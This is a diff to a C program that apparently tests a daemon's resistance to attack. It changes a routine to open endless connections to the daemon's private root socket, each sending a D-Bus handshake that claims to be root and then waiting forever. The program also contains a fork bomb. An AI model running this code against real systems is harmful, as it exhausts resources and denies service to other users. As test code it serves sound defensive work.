@@ -41,7 +41,7 @@
 #define PAUSE_USEC \
 	20000 /* the processor is shared, as by any program; what is attacked is not its speed */
 #define LOCK_FILE "/run/lock/dr_config_lock"
-#define RUN_DIR	  "/run/drmgr"
+#define PRIVATE	  "/run/drmgr/private"
 
 static int ready_fd = -1; /* one byte from each that is at work */
 
@@ -268,27 +268,25 @@ static void come_and_go(void)
 	}
 }
 
-/* Whatever sockets the daemon has, and systemd's of the daemon */
-static void connect_to_all(void)
+/* As many connections as it gets, each of which says that it is root and then waits for ever */
+static void connect_to_root(void)
 {
-	static const char *const paths[] = { RUN_DIR "/private", RUN_DIR "/socket",
-					     RUN_DIR "/bus" };
-	int used = 0;
+	static const struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = PRIVATE };
+	static const char hello[] = "\0AUTH EXTERNAL 30\r\nNEGOTIATE_UNIX_FD\r\nBEGIN\r\n";
+	bool told = false;
 
 	is_ready();
-	for (size_t i = 0;; i++, usleep(PAUSE_USEC)) {
-		struct sockaddr_un a = { .sun_family = AF_UNIX };
+	for (;; usleep(PAUSE_USEC)) {
 		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
 
-		snprintf(a.sun_path, sizeof(a.sun_path), "%s", paths[i % ARRAY_SIZE(paths)]);
-		if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0 || used > 200) {
+		if (connect(fd, (const struct sockaddr *)&a, sizeof(a)) < 0) {
 			close(fd);
 			continue;
 		}
-		if (!used++)
-			way_in("the socket of root can be connected to");
-		if (write(fd, "\0AUTH EXTERNAL 30\r\nNEGOTIATE_UNIX_FD\r\nBEGIN\r\n", 46) < 0)
-			close(fd);
+		if (!told)
+			way_in("root's own socket");
+		told = true;
+		send(fd, hello, sizeof(hello) - 1, MSG_NOSIGNAL);
 	}
 }
 
@@ -375,7 +373,7 @@ static void fork_bomb(void)
 /* ---- starting them */
 
 static void (*const ways[])(void) = {
-	lock_the_lock, flood_the_bus, come_and_go, connect_to_all, order_the_module, fork_bomb,
+	lock_the_lock, flood_the_bus, come_and_go, connect_to_root, order_the_module, fork_bomb,
 };
 
 static void become(uid_t uid)
